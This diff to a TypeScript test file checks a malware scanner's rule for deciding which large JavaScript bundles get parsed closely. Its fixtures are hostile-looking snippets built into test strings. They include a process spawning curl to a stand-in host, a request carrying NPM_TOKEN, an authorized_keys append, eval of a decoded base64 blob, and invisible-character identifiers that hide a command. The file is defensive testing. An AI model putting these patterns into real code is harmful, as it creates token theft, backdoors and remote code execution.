@@ -1,7 +1,9 @@
 /**
- * Which large files are parsed (js-file.ts wantsAst): a bundle is read closely when a capability
- * and what it would act on stand together, even with no decoding token anywhere in it; ordinary
- * filler that only names capabilities far from any such thing is not.
+ * Which large files are parsed (js-file.ts wantsAst): a bundle is read closely when two
+ * capabilities that act together stand together (a request and the environment, a process and a
+ * URL, decoding and running code), even with encoded data between them; ordinary bundle code that
+ * names capabilities far apart, lists module names, links to documentation in comments or sets
+ * two targets side by side is not.
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -13,24 +15,53 @@ function filler(seed: string): string {
   for (let i = 0; parts.join('').length < 200 * 1024; i++) parts.push(`function ${seed}${i}(a,b){return a*${i}+b.length}`);
   return parts.join(';');
 }
+const inBundle = (code: string): string => `${filler('a')};${code};${filler('b')}`;
 
 test('a process started next to a download command is parsed; the same capability far from any target is not', () => {
-  const near = `${filler('a')};var {exec:x}=de("child_process");x("curl -s https://dl.example.invalid/x -o /tmp/x");${filler('b')}`;
-  assert.equal(wantsAst(near), true);
+  assert.equal(wantsAst(inBundle(`var {exec:x}=de("child_process");x("curl -s https://dl.example.invalid/x -o /tmp/x")`)), true);
   const far = `${filler('a')};var {exec:x}=de("child_process");${filler('b')};var note="see /tmp/ for logs";`;
   assert.equal(wantsAst(far), false, 'a temporary path 200 KiB away is not what the process acts on');
 });
 
 test('a request next to environment reads, and fetch next to its replacement, are parsed', () => {
-  assert.equal(wantsAst(`${filler('a')};https.request({host:h,headers:{t:process.env.NPM_TOKEN}});${filler('b')}`), true);
-  assert.equal(wantsAst(`${filler('a')};var o=window.fetch;window.fetch=async function(...a){return fetch(...a)};${filler('b')}`), true);
+  assert.equal(wantsAst(inBundle(`https.request({host:h,headers:{t:process.env.NPM_TOKEN}})`)), true);
+  assert.equal(wantsAst(inBundle(`var o=window.fetch;window.fetch=async function(...a){return fetch(...a)}`)), true);
 });
 
 test('a file write next to a home-directory key file is parsed; a parser full of regular-expression exec calls and loops is not', () => {
-  assert.equal(wantsAst(`${filler('a')};fs.appendFileSync(path.join(os.homedir(),".ssh","authorized_keys"),key);${filler('b')}`), true);
-  assert.equal(wantsAst(`${filler('a')};for(;;){var m=re.exec(s);if(!m)break;out.push(String.fromCharCode(m[1]))}${filler('b')}`), false);
+  assert.equal(wantsAst(inBundle(`fs.appendFileSync(path.join(os.homedir(),".ssh","authorized_keys"),key)`)), true);
+  assert.equal(wantsAst(inBundle(`for(;;){var m=re.exec(s);if(!m)break;out.push(String.fromCharCode(m[1]))}`)), false);
   // One kind alone, however often, is not a pair.
-  assert.equal(wantsAst(`${filler('a')};fetch(a);fetch(b);fetch(c);${filler('b')}`), false);
+  assert.equal(wantsAst(inBundle(`fetch(a);fetch(b);fetch(c)`)), false);
+});
+
+test('decoding a large literal and running it is one pair: the encoded data between them is not code', () => {
+  const blob = Buffer.alloc(48 * 1024, 'payload-bytes').toString('base64');
+  assert.equal(wantsAst(inBundle(`var p=atob("${blob}");var q=1;eval(p)`)), true);
+  const codes = Array.from({ length: 6000 }, (_, i) => 32 + (i % 90)).join(',');
+  assert.equal(wantsAst(inBundle(`var s=String.fromCharCode(${codes});new Function(s)()`)), true);
+  // Decoding and running code are ordinary apart: a source-map comment decoder and a template compiler 200 KiB away.
+  assert.equal(wantsAst(`${filler('a')};var m=atob(x);${filler('b')};var f=new Function("a","return a");`), false);
+});
+
+test('a module loaded by a computed name pairs only with decoding', () => {
+  assert.equal(wantsAst(inBundle(`var r=require;var m=r(Buffer.from("2e2f74657374","hex").toString())`)), true);
+  assert.equal(wantsAst(inBundle(`var m=require(name);if(process.env.DEBUG)console.log(m)`)), false);
+});
+
+test('names and links are not capabilities: a list of built-in modules, a URL in a comment, two targets side by side', () => {
+  assert.equal(wantsAst(inBundle(`var builtins=["buffer","child_process","cluster","dgram","dns","http","https","net","tls"]`)), false);
+  assert.equal(wantsAst(inBundle(`var versions={child_process:true,cluster:">= 0.5",dgram:true,http:true}`)), false);
+  assert.equal(wantsAst(inBundle(`// see https://requirejs.org/docs/errors.html\nvar cp=require("child_process")`)), false);
+  assert.equal(wantsAst(inBundle(`if(process.env.NODE_ENV!=="production")warn("see https://nextjs.org/docs/messages/x")`)), false);
+  // The same URL in code, next to the process that fetches it, is a pair.
+  assert.equal(wantsAst(inBundle(`var u="https://dl.example.invalid/p.sh";require("child_process").execSync("sh -c "+u)`)), true);
+});
+
+test('an invisible character that can be part of a name is parsed; joiners inside a Unicode table are not', () => {
+  assert.equal(wantsAst(inBundle(`const {timeout,\u3164}=req.query;exec(\u3164)`)), true);
+  assert.equal(wantsAst(inBundle(`var isAdmin\u200d=true`)), true);
+  assert.equal(wantsAst(inBundle(`var nonASCIIidentifierChars="\u200c\u200d\xb7\u0300-\u036f"`)), false);
 });
 
 test('a large file with no capability at all is not parsed', () => {
